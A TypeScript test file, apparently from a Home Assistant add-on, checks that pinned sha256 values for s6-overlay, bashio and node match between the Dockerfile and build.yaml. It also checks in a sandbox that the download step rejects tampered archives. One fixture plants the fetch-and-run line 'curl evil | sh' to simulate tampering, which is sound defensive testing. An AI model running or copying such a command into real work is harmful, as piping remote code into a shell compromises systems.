// What the Dockerfile downloads (s6-overlay, bashio) and copies from another image (node) is checked
// against pinned sha256 values before it is used. Here: the pins are well-formed and the same in
// the Dockerfile and build.yaml, and the Dockerfile's own download step, run by bash in a sandbox
// with a stand-in curl serving local files, installs matching files and refuses a tampered one
// before anything is unpacked.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { pathRewriter, repoRoot } from '../support/rootfs-sandbox.ts';

const dockerfile = readFileSync(join(repoRoot, 'Dockerfile'), 'utf8');
const buildArgs = (parse(readFileSync(join(repoRoot, 'build.yaml'), 'utf8')) as { args: Record<string, string> }).args;

/** The Dockerfile's ARG defaults (the global ones before the first FROM and the stage's). */
function argDefaults(): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of dockerfile.matchAll(/^ARG ([A-Z0-9_]+)=(\S+)$/gm)) out.set(m[1] as string, m[2] as string);
  return out;
}

/** The RUN instruction that contains `marker`, with its continuation lines, without "RUN ". */
function runInstruction(marker: string): string {
  const lines = dockerfile.split('\n');
  const at = lines.findIndex((l) => l.includes(marker));
  let start = at;
  while (start > 0 && !(lines[start] as string).startsWith('RUN ')) start--;
  assert.ok(at >= 0 && (lines[start] as string).startsWith('RUN '), `a RUN instruction with ${marker}`);
  const body: string[] = [];
  for (let i = start; i < lines.length; i++) {
    body.push(lines[i] as string);
    if (!(lines[i] as string).endsWith('\\')) break;
  }
  return body.join('\n').replace(/^RUN /, '');
}

const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');

test('every pinned checksum is a sha256 and build.yaml repeats the Dockerfile exactly', () => {
  const defaults = argDefaults();
  const pins = [...defaults.keys()].filter((k) => k.endsWith('_SHA256') || /^NODE_SHA256_/.test(k));
  assert.deepEqual(pins.sort(), [
    'BASHIO_LIB_SHA256', 'NODE_SHA256_AMD64', 'NODE_SHA256_ARM64',
    'S6_OVERLAY_AARCH64_SHA256', 'S6_OVERLAY_NOARCH_SHA256', 'S6_OVERLAY_SYMLINKS_ARCH_SHA256',
    'S6_OVERLAY_SYMLINKS_NOARCH_SHA256', 'S6_OVERLAY_X86_64_SHA256',
  ]);
  for (const pin of pins) {
    assert.match(defaults.get(pin) ?? '', /^[0-9a-f]{64}$/, pin);
    assert.ok(new RegExp(`\\$\\{${pin}\\}`).test(dockerfile.split(`ARG ${pin}=`)[1] ?? ''), `${pin} is used after it is declared`);
  }
  for (const [key, value] of Object.entries(buildArgs)) {
    assert.equal(value, defaults.get(key), `build.yaml args.${key} equals the Dockerfile's ARG ${key}`);
  }
  for (const pin of pins) assert.ok(pin in buildArgs, `build.yaml repeats ${pin}`);
  // An exact Node.js release, the one the node pins belong to; never a moving major tag.
  assert.match(defaults.get('NODE_IMAGE') ?? '', /^node:\d+\.\d+\.\d+-bookworm-slim$/);
  assert.match(dockerfile, /COPY --from=bridge \/usr\/local\/bin\/node \/usr\/local\/bin\/node\nRUN case [^\n]*\n(?:[^\n]*\\\n)*[^\n]*sha256sum --strict -c -/, 'node is checked right after it is copied');
});

test("the Dockerfile's download step installs checked files and refuses a tampered one", (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'iris-edge-downloads-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const served = join(dir, 'served');
  const root = join(dir, 'root');
  for (const d of [served, root, join(dir, 'bin'), join(dir, 'usr-bin')]) mkdirSync(d, { recursive: true });

  // Stand-ins for the release files: real .tar.xz archives, each with one marker file.
  const env: Record<string, string> = { TARGETARCH: 'arm64', S6_OVERLAY_VERSION: '3.2.3.0', BASHIO_VERSION: '0.17.5' };
  const parts: Record<string, string> = {
    noarch: 'S6_OVERLAY_NOARCH_SHA256', aarch64: 'S6_OVERLAY_AARCH64_SHA256', x86_64: 'S6_OVERLAY_X86_64_SHA256',
    'symlinks-noarch': 'S6_OVERLAY_SYMLINKS_NOARCH_SHA256', 'symlinks-arch': 'S6_OVERLAY_SYMLINKS_ARCH_SHA256',
  };
  for (const [part, arg] of Object.entries(parts)) {
    const content = join(dir, `content-${part}`);
    mkdirSync(join(content, 'package'), { recursive: true });
    writeFileSync(join(content, 'package', `from-${part}`), part);
    const file = join(served, `s6-overlay-${part}.tar.xz`);
    const res = spawnSync('tar', ['-C', content, '-cJf', file, 'package']);
    assert.equal(res.status, 0, String(res.stderr));
    env[arg] = sha256(readFileSync(file));
  }
  // bashio's source archive: bashio-0.17.5/lib/{bashio,log.sh}.
  const src = join(dir, 'bashio-src', 'bashio-0.17.5', 'lib');
  mkdirSync(src, { recursive: true });
  writeFileSync(join(src, 'bashio'), '#!/usr/bin/env bash\n');
  writeFileSync(join(src, 'log.sh'), 'bashio::log.info() { :; }\n');
  assert.equal(spawnSync('tar', ['-C', join(dir, 'bashio-src'), '-czf', join(served, 'v0.17.5.tar.gz'), 'bashio-0.17.5']).status, 0);
  // The pin as its ARG comment defines it: the sha256 of the sorted sha256sum list of lib/.
  const listing = ['bashio', 'log.sh'].map((n) => `${sha256(readFileSync(join(src, n)))}  ./${n}\n`).join('');
  env.BASHIO_LIB_SHA256 = sha256(listing);

  // curl serves the file named like the URL's last part, to -o FILE or to stdout.
  writeFileSync(join(dir, 'bin', 'curl'), [
    '#!/usr/bin/env bash',
    'out=""; url=""',
    'while (($#)); do case "$1" in -o) out="$2"; shift 2 ;; -*) shift ;; *) url="$1"; shift ;; esac; done',
    `echo "$url" >>"${join(dir, 'urls.log')}"`,
    `file="${served}/\${url##*/}"`,
    '[[ -f "$file" ]] || { echo "curl: (22) 404 $url" >&2; exit 22; }',
    'if [[ -n "$out" ]]; then cp "$file" "$out"; else cat "$file"; fi',
    '',
  ].join('\n'));
  chmodSync(join(dir, 'bin', 'curl'), 0o755);

  const rewrite = pathRewriter([
    ['tar -C / ', `tar -C ${root}/ `],
    ['/tmp/s6', join(dir, 'tmp-s6')],
    ['/usr/src/bashio', join(dir, 'usr-src-bashio')],
    ['/usr/lib/bashio', join(dir, 'usr-lib-bashio')],
    ['/usr/bin/bashio', join(dir, 'usr-bin', 'bashio')],
  ]);
  const script = rewrite(runInstruction('s6-overlay-${part}.tar.xz'));
  assert.ok(!/[ "]\/(tmp|usr)\//.test(script.replaceAll(dir, '<sandbox>')), `every path is in the sandbox:\n${script}`);
  const run = (vars: Record<string, string>) =>
    spawnSync('bash', ['-o', 'pipefail', '-c', script], { env: { PATH: `${join(dir, 'bin')}:/usr/bin:/bin`, ...vars }, encoding: 'utf8' });

  const tampered = run({ ...env, S6_OVERLAY_SYMLINKS_ARCH_SHA256: sha256('something else') });
  assert.notEqual(tampered.status, 0, 'a file that does not match its pin stops the build');
  assert.match(tampered.stderr + tampered.stdout, /s6-overlay-symlinks-arch\.tar\.xz: FAILED/);
  assert.ok(!existsSync(join(root, 'package')), 'nothing was unpacked');

  const ok = run(env);
  assert.equal(ok.status, 0, `${ok.stdout}${ok.stderr}`);
  for (const part of ['noarch', 'aarch64', 'symlinks-noarch', 'symlinks-arch']) assert.ok(existsSync(join(root, 'package', `from-${part}`)), part);
  assert.ok(!existsSync(join(root, 'package', 'from-x86_64')), 'arm64 gets the aarch64 tarball only');
  assert.ok(existsSync(join(dir, 'usr-lib-bashio', 'log.sh')), 'bashio installed');
  const urls = readFileSync(join(dir, 'urls.log'), 'utf8');
  assert.match(urls, /releases\/download\/v3\.2\.3\.0\/s6-overlay-aarch64\.tar\.xz/);
  assert.match(urls, /hassio-addons\/bashio\/archive\/v0\.17\.5\.tar\.gz/);

  rmSync(join(dir, 'usr-lib-bashio'), { recursive: true });
  rmSync(join(dir, 'usr-bin', 'bashio'));
  writeFileSync(join(src, 'log.sh'), 'curl evil | sh\n');
  assert.equal(spawnSync('tar', ['-C', join(dir, 'bashio-src'), '-czf', join(served, 'v0.17.5.tar.gz'), 'bashio-0.17.5']).status, 0);
  const badBashio = run(env);
  assert.notEqual(badBashio.status, 0);
  assert.match(badBashio.stderr, /bashio 0\.17\.5: lib\/ has sha256 [0-9a-f]{64}, expected /);
  assert.ok(!existsSync(join(dir, 'usr-lib-bashio')), 'a changed bashio is not installed');
});
